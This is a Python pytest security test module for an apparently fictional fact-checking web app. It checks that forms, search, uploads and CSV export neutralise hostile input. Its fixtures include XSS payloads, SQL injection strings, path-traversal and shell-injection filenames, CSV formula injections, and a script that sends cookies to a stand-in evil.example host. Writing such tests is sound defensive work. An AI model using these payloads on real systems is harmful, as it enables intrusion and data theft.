"""Hostile input through the real forms: markup, SQL and LIKE wildcards, odd uploads, formula cells.

Every page a payload reaches is parsed with html.parser; an element, event handler, style or
javascript: URL that only the payload could have made counts as a hit. The count must be 0.
"""
from __future__ import annotations

import csv
import io
import re
import time
from urllib.parse import urlencode

import pytest
from sqlmodel import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from factcheck.exports.csv import FORMULA_STARTS
from factcheck.models import Article, Claim, ClaimStatus, Evidence, Rating, Role, User, Verdict, VerdictState
from tests.factories import make_article, make_claim, make_user, rating
from tests.security.conftest import injected_markup, version_on

XSS = [
    '<script>alert("x1")</script>',
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "javascript:alert(4)",
    "</textarea><script>alert(5)</script>",
    '<a href="javascript:alert(6)">click</a>',
    '<iframe src="data:text/html,<script>alert(7)</script>"></iframe>',
    '" autofocus onfocus="alert(8)',
    "<style>body{display:none}</style>",
    "{{ 7*7 }} {% if 1 %}jinja{% endif %}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>",
    "<!--<script>alert(10)//-->",
]
EVIDENCE_URLS = ['https://e.example/"><script>alert(11)</script>', 'https://e.example/?a="onmouseover="alert(12)',
                 "https://e.example/'><img/src/onerror=alert(13)>"]
RAW_MARKERS = ("<script", "onerror=", "onload=", "onfocus=", "<iframe", "<svg", "<img", "<style")
HITS: list[str] = []  # every hit across the module, for the report


def check_page(name: str, html: str, payload: str | None = None) -> list[str]:
    hits = [f"{name}: {h}" for h in injected_markup(html)]
    if payload and "<" in payload:
        assert "&lt;" in html, f"{name}: the payload never reached the page escaped"
    HITS.extend(hits)
    return hits


@pytest.mark.parametrize("payload", XSS, ids=[f"xss{i}" for i in range(len(XSS))])
def test_markup_in_every_text_field_is_shown_as_text(session, browser, payload):
    reviewer, editor, admin = browser(Role.REVIEWER, "rev"), browser(Role.EDITOR, "ed"), browser(Role.ADMIN, "adm")
    stored = []

    def post(who, url, data):
        response = who.post(url, data)
        assert response.status_code == 302, (url, response.get_data(as_text=True)[:500])
        stored.append(url)
        return response

    body = f"The mayor said {payload} cost 2 million dollars in 2023. Crime fell by 20 percent, police said."
    imported = post(reviewer, "/articles/import", {"title": payload[:500], "outlet": payload[:200], "author": payload[:300],
                                                   "url": "https://news.example/a", "text": body})
    article_id = int(imported.headers["Location"].rsplit("/", 1)[1])
    added = post(reviewer, f"/articles/{article_id}/claims", {"text": f"Claim {payload} here", "speaker": payload[:300]})
    claim_id = int(added.headers["Location"].rsplit("/", 1)[1])
    claim_url = f"/claims/{claim_id}"
    post(reviewer, f"{claim_url}/assign", {"assignee": "rev", "version": version_on(reviewer.get(claim_url).get_data(as_text=True))})
    post(reviewer, f"{claim_url}/evidence", {"url": EVIDENCE_URLS[len(payload) % 3], "stance": "refutes",
                                             "quote": payload, "note": payload})
    post(admin, "/admin/ratings", {"name": payload[:80], "value": "1", "description": payload, "active": "y"})
    session.commit()
    rating_id = session.exec(select(Rating).where(Rating.name == " ".join(payload[:80].split()))).one().id
    post(reviewer, f"{claim_url}/verdict", {"rating": rating_id, "rationale": f"Because {payload} says so.",
                                            "version": version_on(reviewer.get(claim_url).get_data(as_text=True))})
    session.commit()
    verdict = session.exec(select(Verdict).where(Verdict.claim_id == claim_id)).one()
    post(editor, f"{claim_url}/verdict/{verdict.id}/send-back", {"reason": payload})
    assert len(stored) == 7

    pages = {
        "article": (reviewer, f"/articles/{article_id}"), "articles": (reviewer, "/articles/"),
        "claim (reviewer)": (reviewer, claim_url), "claim (editor)": (editor, claim_url), "queue": (editor, "/claims/"),
        "search q": (reviewer, "/search/?" + urlencode({"q": payload})),
        "search speaker": (reviewer, "/search/?" + urlencode({"speaker": payload[:300]})),
        "similar": (reviewer, f"/search/similar/{claim_id}"), "admin": (admin, "/admin/"),
        "import form echo": (reviewer, None),
    }
    hits = []
    for name, (who, url) in pages.items():
        if url is None:  # a refused form re-renders the user's input inside the form
            response = who.post("/articles/import", {"title": payload, "text": "", "url": "not a url " + payload})
            assert response.status_code == 400
        else:
            response = who.get(url)
            assert response.status_code == 200, name
        hits += check_page(name, response.get_data(as_text=True), payload)
    assert hits == []


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
                                 "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
                                 "https://e.example/ onmouseover=alert(1)", "file:///etc/passwd"])
def test_evidence_urls_that_are_not_plain_web_links_are_refused(session, browser, url):
    reviewer = browser(Role.REVIEWER, "rev")
    claim = make_claim(session, status=ClaimStatus.IN_RESEARCH, assignee=reviewer.user)
    response = reviewer.post(f"/claims/{claim.id}/evidence", {"url": url, "stance": "supports", "quote": "q"})
    assert response.status_code == 400
    assert session.exec(select(Evidence)).first() is None


# --- SQL and LIKE wildcards ------------------------------------------------------------------------

SPEAKERS = ["Alice Moore", "Bob_Smith", "100% sure", "back\\slash", "O'Brien"]


@pytest.fixture
def speakers(session):
    article = make_article(session, text="Five people said five things.", outlet="Daily Test")
    return {s: make_claim(session, article, text=f"{s} said something about taxes.", speaker=s) for s in SPEAKERS}


def result_count(html: str) -> int:
    match = re.search(r'id="result-count">(\d+) claim', html)
    assert match, html[:2000]
    return int(match.group(1))


@pytest.mark.parametrize("speaker,expected", [("%", ["100% sure"]), ("_", ["Bob_Smith"]), ("\\", ["back\\slash"]),
                                              ("' OR 1=1 --", []), ("O'Brien", ["O'Brien"]), ("%' OR '1'='1", []),
                                              ("\\%", []), ("[a-z]", []), ("*", [])])
def test_like_wildcards_and_quotes_in_the_speaker_filter_match_literally(client, auth, speakers, speaker, expected):
    auth.login(Role.REVIEWER)
    html = client.get("/search/?" + urlencode({"speaker": speaker})).get_data(as_text=True)
    assert result_count(html) == len(expected)
    for name in expected:
        assert f"/claims/{speakers[name].id}\"" in html


@pytest.mark.parametrize("query", ["' OR 1=1 --", "%", "_", "\\", "'; DROP TABLE claim; --", "\" OR \"\"=\"",
                                   "1' UNION SELECT username, password_hash FROM \"user\" --", "%%%%", "\x7f", "😀" * 300])
def test_sql_in_the_search_box_is_just_text(client, auth, session, speakers, query):
    auth.login(Role.REVIEWER)
    response = client.get("/search/?" + urlencode({"q": query}))
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "pbkdf2" not in html and "scrypt" not in html
    session.commit()
    assert len(session.exec(select(Claim)).all()) == len(SPEAKERS)


@pytest.mark.parametrize("args", [{"status": "' OR 1=1 --"}, {"outlet": "x' OR '1'='1"}, {"verdict": "%"},
                                  {"page": "1 OR 1=1"}, {"date_from": "2020-01-01' OR 1=1 --"}, {"page": "-1"},
                                  {"date_to": "9999-99-99"}])
def test_malformed_filters_are_refused_not_run(client, auth, speakers, args):
    auth.login(Role.EDITOR)
    assert client.get("/search/?" + urlencode(args)).status_code == 400
    assert client.get("/export/claims.csv?" + urlencode(args)).status_code == 400


@pytest.mark.parametrize("status", ["' OR 1=1 --", "%", "new' --", "signed_off OR 1=1"])
def test_a_malformed_queue_filter_never_errors(client, auth, speakers, status):
    auth.login(Role.REVIEWER)
    response = client.get("/claims/?" + urlencode({"status": status}))
    assert response.status_code in (200, 400)
    if response.status_code == 200:
        assert "Alice Moore" not in response.get_data(as_text=True)


def test_the_export_filter_matches_wildcards_literally(client, auth, speakers):
    auth.login(Role.EDITOR)
    response = client.get("/export/claims.csv?" + urlencode({"speaker": "_"}))
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["speaker"] for r in rows] == ["Bob_Smith"]


# --- uploads ---------------------------------------------------------------------------------------

def upload(reviewer, name, data: bytes, **extra):
    """A multipart body built in memory (the test client spools big ones to a file it never closes)."""
    boundary, body = encode_multipart({"csrf_token": reviewer.csrf(), "file": FileStorage(io.BytesIO(data), name),
                                       **extra})
    return reviewer.client.post("/articles/import", data=body, content_type=f"multipart/form-data; boundary={boundary}")


ARTICLE = b"The mayor said the bridge cost 2.6 million dollars. Crime fell by 20 percent in 2023."


@pytest.mark.parametrize("name", ["../../etc/passwd.txt", "..\\..\\windows\\win.ini.txt", "/etc/shadow.txt",
                                  "статья 📰.txt", "a\u202etxt.html", "CON.txt", "x" * 300 + ".txt", "....txt",
                                  "report.HTML", "a;rm -rf ~.txt", "<script>alert(1)</script>.txt"])
def test_odd_upload_names_import_without_touching_the_filesystem(app, session, browser, tmp_path, name):
    from pathlib import Path, PurePosixPath
    reviewer = browser(Role.REVIEWER, "rev")
    base = PurePosixPath(name.replace("\\", "/")).name
    places = (Path(app.instance_path), tmp_path, Path.cwd(), Path("/etc"))
    existed = {p for place in places for p in place.iterdir() if p.name == base}
    response = upload(reviewer, name, ARTICLE)
    assert response.status_code == 302, response.get_data(as_text=True)[:400]
    session.commit()
    article = session.exec(select(Article)).one()
    assert "bridge cost 2.6 million" in article.text and "/" not in (article.title or "")[:1] and ".." not in article.title
    assert {p for place in places for p in place.iterdir() if p.name == base} == existed  # nothing saved under the sent name
    assert check_page("article", reviewer.get(f"/articles/{article.id}").get_data(as_text=True)) == []


@pytest.mark.parametrize("name", ["nul\x00.txt", "evil.txt\x00.exe"])
def test_upload_names_with_nul_are_refused(session, browser, name):
    reviewer = browser(Role.REVIEWER, "rev")
    response = upload(reviewer, name, ARTICLE)
    assert 400 <= response.status_code < 500
    session.commit()
    assert session.exec(select(Article)).first() is None


@pytest.mark.parametrize("name", ["evil.exe", "page.php", "drawing.svg", "doc.pdf", "archive.zip", "x.txt.js", "page.html.exe"])
def test_unsupported_file_types_are_refused(session, browser, name):
    reviewer = browser(Role.REVIEWER, "rev")
    response = upload(reviewer, name, ARTICLE)
    assert response.status_code == 400 and "Unsupported file type" in response.get_data(as_text=True)


@pytest.mark.parametrize("data,message", [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 20, "binary"),
    (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 4000, "binary"),
    (b"", "empty"), (b"   \n\n\t ", "empty"),
])
def test_binary_and_empty_uploads_are_refused(session, browser, data, message):
    reviewer = browser(Role.REVIEWER, "rev")
    response = upload(reviewer, "story.txt", data)
    assert response.status_code == 400 and message in response.get_data(as_text=True)


def test_an_upload_over_the_article_cap_is_refused(app, session, browser):
    reviewer = browser(Role.REVIEWER, "rev")
    response = upload(reviewer, "big.txt", b"Word after word. " * (app.config["MAX_ARTICLE_BYTES"] // 17 + 100))
    assert response.status_code == 400 and "the limit is 2,000,000 bytes" in response.get_data(as_text=True)


def test_a_request_over_the_content_length_cap_is_refused(app, session, browser):
    reviewer = browser(Role.REVIEWER, "rev")
    body = b"csrf_token=" + reviewer.csrf().encode() + b"&text=" + b"x" * app.config["MAX_CONTENT_LENGTH"]
    response = reviewer.client.post("/articles/import", data=body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 413
    session.commit()
    assert session.exec(select(Article)).first() is None


@pytest.mark.parametrize("data", [b"Caf\xe9 prices rose by 20 percent, the owner said. \xff\xfe\xfd",
                                  b"\xc3\x28 invalid two-byte start, then 20 percent more taxes.",
                                  b"\xed\xa0\x80 a lone surrogate, and 40 percent fewer buses.",
                                  b"\xef\xbb\xbf" + "Ünïcödé 20 percent.".encode("utf-8"),
                                  "Taxes rose 20 percent.".encode("utf-16")])
def test_invalid_utf8_uploads_import_cleanly(session, browser, data):
    reviewer = browser(Role.REVIEWER, "rev")
    response = upload(reviewer, "story.txt", data)
    assert response.status_code == 302, response.get_data(as_text=True)[:300]
    session.commit()
    assert "percent" in session.exec(select(Article)).one().text


def test_invalid_utf8_in_a_posted_form_is_never_an_error(session, browser):
    reviewer = browser(Role.REVIEWER, "rev")
    body = b"csrf_token=" + reviewer.csrf().encode() + b"&title=%ff%fe%80&text=Taxes+rose+%c3%28+20+percent.%ed%a0%80"
    response = reviewer.client.post("/articles/import", data=body, content_type="application/x-www-form-urlencoded")
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 302:
        session.commit()
        assert "20 percent" in session.exec(select(Article)).one().text


def test_an_html_upload_keeps_no_markup_of_its_own(session, browser):
    reviewer = browser(Role.REVIEWER, "rev")
    page = (b"<html><head><title>T<script>alert(1)</script></title></head><body><article>"
            b"<p onclick='alert(2)'>The mayor said the bridge cost 2.6 million dollars, twice the budget.</p>"
            b"<script>document.location='https://evil.example/?c='+document.cookie</script>"
            b"<p>Crime fell by 20 percent in 2023.<img src=x onerror=alert(3)></p></article></body></html>")
    response = upload(reviewer, "page.html", page)
    assert response.status_code == 302
    session.commit()
    article = session.exec(select(Article)).one()
    assert "document.cookie" not in article.text and "onclick" not in article.text
    assert check_page("article", reviewer.get(f"/articles/{article.id}").get_data(as_text=True)) == []


def test_a_one_megabyte_single_line_article_imports_or_is_refused_in_time(session, browser):
    reviewer = browser(Role.REVIEWER, "rev")
    line = ("The mayor said the bridge cost 2.6 million dollars and crime fell by 20 percent in 2023 " * 12000)[:1_000_000]
    started = time.monotonic()
    response = reviewer.post("/articles/import", {"title": "One line", "text": line})
    elapsed = time.monotonic() - started
    assert elapsed < 90, f"took {elapsed:.0f} s"
    assert response.status_code == 302 or 400 <= response.status_code < 500
    if response.status_code == 302:
        session.commit()
        assert len(session.exec(select(Article)).one().text) == 1_000_000


@pytest.mark.parametrize("field", ["title", "text", "outlet", "author", "url"])
def test_nul_characters_in_form_fields_are_refused_clearly(session, browser, field):
    reviewer = browser(Role.REVIEWER, "rev")
    data = {"title": "T", "text": "Taxes rose 20 percent.", field: "Taxes\x00rose 20 percent."}
    response = reviewer.post("/articles/import", data)
    assert response.status_code == 400 and "NUL character" in response.get_data(as_text=True)


# --- formula cells in the CSV export ---------------------------------------------------------------

def test_every_exported_column_is_neutralised_through_http(client, auth, session):
    editor = auth.login(Role.EDITOR, "ed")
    assignee = make_user(session, Role.REVIEWER, username="-assignee")
    signer = make_user(session, Role.EDITOR, username="-signer")
    evil_rating = Rating(name="=EVIL()", value=0, position=99)
    session.add(evil_rating)
    session.commit()
    payloads = ["=HYPERLINK(\"https://evil.example\",\"x\")", "+SUM(1,1)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
                "=cmd|' /C calc'!A0"]
    for i, p in enumerate(payloads):
        article = make_article(session, text=f"{p} text {i}", title=p, outlet=p, url=p)
        claim = make_claim(session, article, text=p + f" claim {i}", speaker=p, assignee=assignee,
                           status=ClaimStatus.SIGNED_OFF)
        session.add(Verdict(claim_id=claim.id, rating_id=evil_rating.id, rationale=p, given_by_id=editor.id,
                            state=VerdictState.SIGNED_OFF, signed_off_by_id=signer.id))
    session.commit()
    response = client.get("/export/claims.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    header, data = rows[0], rows[1:]
    assert len(data) == len(payloads)
    hits = [f"row {r[0]} {col}={cell!r}" for r in data for col, cell in zip(header, r) if cell.startswith(FORMULA_STARTS)]
    HITS.extend(hits)
    assert hits == []
    by_column = {col: {r[i] for r in data} for i, col in enumerate(header)}
    for col in ("claim", "speaker", "article_title", "outlet", "article_url", "verdict", "rationale", "assignee",
                "signed_off_by"):
        assert any(cell.startswith("'") for cell in by_column[col]), col  # the payload arrived, neutralised


def test_the_hit_count_is_zero():
    """Runs last in this module: the total over every payload class above."""
    assert HITS == []
